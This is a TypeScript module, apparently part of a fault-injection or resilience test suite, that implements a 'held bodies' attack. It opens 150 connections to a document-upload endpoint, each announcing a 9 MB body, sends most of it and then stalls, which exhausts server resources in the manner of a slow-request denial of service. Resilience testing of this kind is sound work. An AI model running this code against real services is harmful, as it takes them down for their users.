/** Requests that announce 9 MB, send most of it, and then nothing. */
import type { Attack, Target } from '../attack.ts';
import { openConnection, pause, type RawConnection } from '../connection.ts';

const CONNECTIONS = 150;
const BODY_BYTES = 9 * 1024 * 1024;
const PIECE = Buffer.alloc(256 * 1024, 'x');
const HOLD_MS = 45_000;

async function run({ url, keys, workspace, collection, signal }: Target): Promise<void> {
  const path = `/v1/w/${workspace}/col/${collection}/docs/raw`;
  const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${keys.write}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;
  const connections: RawConnection[] = [];
  for (let count = 0; count < CONNECTIONS && !signal.aborted; count += 1) {
    const connection = await openConnection(url, signal);
    if (connection === undefined) continue;
    connections.push(connection);
    connection.socket.write(`${head}{"content":"`);
    for (let sent = 0; sent + 2 * PIECE.length < BODY_BYTES; sent += PIECE.length) connection.socket.write(PIECE);
  }
  const ended = Promise.all(connections.map(({ closed }) => closed));
  await Promise.race([ended, pause(HOLD_MS, signal)]);
  for (const { socket } of connections) socket.destroy();
}

export const attack: Attack = { name: 'held bodies', fault: 'F7', run };
